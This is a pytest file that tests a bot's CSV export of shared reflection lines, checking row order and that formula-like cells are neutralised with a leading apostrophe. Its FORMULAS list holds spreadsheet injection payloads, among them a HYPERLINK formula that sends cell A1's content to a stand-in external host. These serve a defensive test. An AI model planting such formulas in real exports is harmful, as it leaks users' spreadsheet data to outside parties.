"""The table: every shared line once, and no cell that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest

from bot.summary.table import COLUMNS, as_cell, as_csv
from tests.summary.life import LIFE, SINCE, ZONE, line

FORMULAS = (
    '=HYPERLINK("https://elsewhere.example?"&A1,"look")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1",
    "  =1+1", "\u00a0=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
)  # fmt: skip
PLAIN = ("3 of 10", "sister = the one who calls", "a-b", "", "'quoted'", 'say "no"', "two\nlines", "a,b;c")


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_every_shared_line_is_a_row() -> None:
    """In the order of the page, with the number of a scale in a column of its own."""
    found = rows(as_csv(LIFE.reflections, ZONE))
    lines = [(one, each) for one in LIFE.reflections for each in one.lines]
    assert [(row["entry"], row["line"], row["answer"]) for row in found] == [(o.id, e.id, e.text) for o, e in lines]
    assert [row["value"] for row in found] == [str(e.value) if isinstance(e.value, int) else "" for _, e in lines]
    assert found[0]["at"] == "2026-03-04T13:00:00-05:00"


def test_table_of_nothing_is_its_head() -> None:
    """One line, so that a spreadsheet opens it."""
    assert as_csv((), ZONE) == ",".join(COLUMNS) + "\r\n"


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("where", ["text", "label", "id", "title"])
def test_formula_is_text_in_every_column(text: str, where: str) -> None:
    """Whatever a client writes, and whatever stands around it: an apostrophe comes first."""
    told = line("said", "words", "x", SINCE, value="x")
    one = replace(LIFE.reflections[0], lines=(told if where == "title" else replace(told, **{where: text}),))
    if where == "title":
        one = replace(one, title=text)
    (row,) = rows(as_csv((one,), ZONE))
    cells = [cell for cell in row.values() if cell.endswith(text)]
    assert cells == [f"'{text}"]
    assert not [cell for cell in row.values() if cell.lstrip()[:1] in tuple("=+-@＝＋－＠")]


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_is_left_as_it_is(text: str) -> None:
    """A near miss: the sign is in the middle, or a quotation mark, a comma, a line end."""
    one = replace(LIFE.reflections[0], lines=(line("said", "words", text, SINCE, value=text),))
    (row,) = rows(as_csv((one,), ZONE))
    assert row["answer"] == text


def test_half_a_character_and_a_bell_are_replaced() -> None:
    """What no file can hold does not stop the export."""
    assert as_cell("a\ud800b\x07") == "a?b\N{REPLACEMENT CHARACTER}"
